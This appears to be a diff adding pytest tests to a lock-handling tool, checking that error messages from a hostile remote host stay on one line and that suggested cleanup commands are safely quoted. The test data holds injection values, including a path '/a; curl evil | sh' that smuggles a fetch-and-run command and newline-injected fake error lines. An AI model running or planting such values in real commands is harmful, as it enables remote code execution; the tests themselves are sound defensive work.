@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import contextlib
+import fcntl
 import json
 import os
 import socket
@@ -135,6 +136,35 @@ def test_a_run_of_another_machine_is_never_held_to_be_dead(
         pytest.fail("held twice")
     assert "eve?[2J@elsewhere" in str(refused.value)
     assert f"if it is dead run on elsewhere: cbt-crypto cleanup {tmp_path}/a" in str(refused.value)
+
+
+@pytest.mark.parametrize(
+    "holder", [{"pid": 5}, {"stranger": 7, "keeper": "1\nerror: c"}, {"pid": "1\nerror: d"}]
+)
+def test_a_hostile_host_has_one_line_and_no_command(tmp_path: Path, holder: Any) -> None:
+    """Its answer printed `error: ...` as a line of its own, and a command to be pasted."""
+    one = Site(str(tmp_path), "/c", "evil", (), ())
+    told = {"host": "x\nerror: a", "archive": "/a; curl evil | sh", **holder}
+    answer = {"resource": ["tmp_dir", "/t\nerror: b"], "holder": told}
+    hosts = FakeHosts(lambda host, command: f"busy {json.dumps(answer)}")
+    with (
+        pytest.raises(UsageError) as refused,
+        hosts_held(hosts.remote(), one, "mine", me(tmp_path)),
+    ):
+        pytest.fail("held")
+    said = str(refused.value)
+    assert len(said.splitlines()) == 1
+    assert "stranger" in holder or "cbt-crypto cleanup '/a; curl evil | sh'" in said
+
+
+def test_what_a_lock_says_is_one_line(tmp_path: Path) -> None:
+    with open(tmp_path / ".lock", "w", encoding="utf-8") as file:
+        file.write("eve\nerror: disk on fire")
+        file.flush()
+        fcntl.flock(file, fcntl.LOCK_EX)
+        with pytest.raises(UsageError) as refused, locks.locked(tmp_path):
+            pytest.fail("held twice")
+    assert len(str(refused.value).splitlines()) == 1
 
 
 def test_another_s_hold_is_not_freed(tmp_path: Path) -> None:
